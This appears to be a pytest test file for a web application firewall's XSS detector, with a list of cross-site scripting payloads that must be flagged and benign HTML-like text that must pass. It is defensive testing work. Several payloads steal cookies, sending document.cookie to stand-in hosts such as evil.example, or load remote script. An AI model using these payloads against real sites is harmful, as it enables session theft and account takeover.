"""The XSS detector: script in HTML, attributes and JavaScript is caught; HTML-looking text passes."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.gotestwaf import corpus_payloads, decoded_variants

from strongroom.edge.waf.findings import CRITICAL, Finding
from strongroom.edge.waf.xss import detect_xss

ATTACKS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<ScRiPt >alert(String.fromCharCode(88,83,83))</ScRiPt>",
    '"><script>alert(document.domain)</script>',
    "</title><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    # event handlers, with case, tabs, newlines and / as separators
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "<svg\tonload=alert(1)>",
    "<svg\nonload=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<svG/x=">"/oNloaD=confirm()//',
    "<body onload=alert('test1')>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click",
    "<xss onpointerrawupdate=confirm(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # attribute break-outs without a tag
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '"onwheel=ead(111)',
    '"OnCliCk="(prompt)(1)',
    # URLs that run script
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "javascript://%0aalert(1)".replace("%0a", "\n"),
    "javascript:\ufeffalert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    # framing, styles, meta
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<div style="width: expression(alert(1))">',
    "<style>@import 'http://evil.example/xss.css';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # JavaScript contexts
    "';alert(1)//",
    "'-alert(1)-'",
    "\\'-alert(1)//",
    '"));if(!self.x)self.x=!alert(document.domain)}catch(e){}//',
    "confirm.call(null,1)",
    "alert.apply(null, [1])",
    "(alert)(1)",
    "alert`1`",
    "alert?.(document?.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    'document["cookie"]',
    "window.location='http://evil.example/?c='+document.cookie",
    "top['al'+'ert'](1)",
    "[1].some(confirm)",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__[v-if]=_c.constructor('alert(1)')()",
    "javascript:setInterval('ale'+'rt(document.domain)')",
    "${alert(1)}",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "';Function('alert(1)')()//",
    "\";import('//evil.example/x.js')//",
    "'+document.cookie+'",
    # filters that strip tags
    '\\"autof<x>ocus o<x>nfocus=alert<x>(1)//',
]

HTML_LOOKING_TEXT = [
    "<3 thanks!",
    "a < b and c > d",
    "a<b and c>d",
    "Tom & Jerry's <Best> Shop",
    "h2<h1",
    "Hello world! <b>bold</b> and <i>italic</i>",
    "<p>Hello</p>",
    '<a href="https://example.com/pay?id=1">invoice</a>',
    '<img src="https://cdn.example.com/logo.png" alt="logo">',
    "Use <br> for line breaks",
    "and >I would like to see all of the items that are type <enter type here>.",
    "The standard for the <$ tag is to enclose a dollar amount.",
    ">url=/pi?mode=<;>",
    "JavaScript: Basics of JavaScript Language",
    "'javascript:' is a URL scheme",
    "javascript tutorial for beginners",
    "How do I use document.querySelector?",
    "Alert: your card ending 4242 was charged",
    "Please confirm (yes or no) by Friday",
    "the alert was raised (see logs)",
    "Note: confirm() is only supported in dialogs",
    "Print this page",
    "open(file)",
    "Sort by: price (low to high)",
    "https://example.com/?session=abc&only=1&location=paris",
    "?onboarding=true&step=2",
    "online=true",
    "x = y + z; return x",
    "if (a && b) { c() }",
    "=SUM(A1:A10)",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "mailto:someone@example.com?subject=Hello",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
    "The <script> keyword makes a mapping local",
    "Any target of type OBJECT <Object Libraries>",
    "[Host: type: {[",
    "12 Union St; Apt 4",
    "O'Brien",
    "# Heading\n\n* item `code` here",
    "how to use document.cookie in javascript",
    "javascript alert() function",
    "let Fn = function ('name') in the docs",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found_at_paranoia_1(value: str) -> None:
    finding = detect_xss(value)
    assert finding is not None, value
    assert finding.category == "xss"
    assert finding.severity == CRITICAL
    assert finding.paranoia == 1


@pytest.mark.parametrize("value", HTML_LOOKING_TEXT)
def test_html_looking_text_passes_at_paranoia_1(value: str) -> None:
    assert detect_xss(value) is None


@pytest.mark.parametrize(
    ("value", "rule_id"),
    [
        ("<script>alert(1)</script>", "xss-script-tag"),
        ("<img src=x onerror=alert(1)>", "xss-event-handler"),
        ("javascript:alert(1)", "xss-js-uri"),
        ('<iframe srcdoc="<b>x</b>">', "xss-dangerous-tag"),
        ('<div style="x:expression(alert(1))">', "xss-style"),
        ("';alert(1)//", "xss-js-sink"),
    ],
)
def test_rule_ids_name_the_construct_found(value: str, rule_id: str) -> None:
    finding = detect_xss(value)
    assert finding is not None
    assert finding.rule_id == rule_id


def test_an_unknown_handler_without_script_is_a_weak_signal() -> None:
    value = "<b onfancything=yes>"
    assert detect_xss(value, paranoia=1) is None
    finding = detect_xss(value, paranoia=2)
    assert finding is not None
    assert finding.paranoia == 2


def test_an_unknown_handler_running_script_is_found() -> None:
    assert detect_xss("<b onfancything=alert(1)>") is not None


def test_a_script_scheme_followed_by_prose_is_a_weak_signal() -> None:
    value = "JavaScript: Basics of JavaScript Language"
    assert detect_xss(value, paranoia=1) is None
    assert detect_xss(value, paranoia=2) is not None


def test_evidence_is_a_short_excerpt() -> None:
    finding = detect_xss("x" * 10 + "<img src=x onerror=alert(1)>" + "y" * 500)
    assert finding is not None
    assert finding.evidence.startswith("<img")
    assert len(finding.evidence) <= 64


def test_an_attack_after_a_long_prefix_is_found() -> None:
    assert detect_xss("A" * 131_072 + ";<script>alert(1);</script>")


def test_long_adversarial_values_are_inspected_in_bounded_time() -> None:
    for value in (
        "<a " * 87_000,
        "<svg onload=" * 21_000,
        "alert(" * 43_000,
        "javascript:" * 23_000,
        "on" + "a" * 262_144 + "=",
        "<" * 262_144,
        "[]" * 131_072,
    ):
        started = time.perf_counter()
        detect_xss(value, paranoia=4)
        assert time.perf_counter() - started < 1.0


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400), st.integers(min_value=1, max_value=4))
def test_arbitrary_text_never_raises(value: str, paranoia: int) -> None:
    finding = detect_xss(value, paranoia)
    assert finding is None or (
        isinstance(finding, Finding)
        and finding.paranoia <= paranoia
        and len(finding.evidence) <= 64
    )


HTML_ALPHABET = st.sampled_from(
    ["<", ">", "/", " ", "\t", "=", '"', "'", "`", "script", "img", "svg", "onload", "onx",
     "alert", "(", ")", "1", "javascript:", "src", "x", "&", "[", "]", "document", ".cookie"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(HTML_ALPHABET, max_size=80))
def test_html_shaped_token_soup_never_raises(parts: list[str]) -> None:
    detect_xss("".join(parts), paranoia=4)


def test_the_public_corpus_xss_payloads_are_found() -> None:
    payloads = corpus_payloads(
        "owasp/xss-scripting.yml",
        "community/community-xss.yml",
        "community/community-8kb-xss.yml",
        "community/community-128kb-xss.yml",
    )
    missed = [p for p in payloads if not any(detect_xss(v) for v in decoded_variants(p))]
    assert missed == []


def test_the_public_corpus_benign_texts_pass() -> None:
    texts = corpus_payloads("false-pos/texts.yml")
    flagged = [t for t in texts if any(detect_xss(v) for v in decoded_variants(t))]
    assert flagged == []


def test_a_script_tag_followed_by_a_sentence_is_prose() -> None:
    # Three bare words make the whole block a JavaScript syntax error: it never runs.
    assert detect_xss("My kid wrote <script> on the box lol, x > y => z") is None
    assert detect_xss("<script> var a = 1; alert(a)") is not None
    assert detect_xss("<script>new Image().src='//x/'+document.cookie") is not None
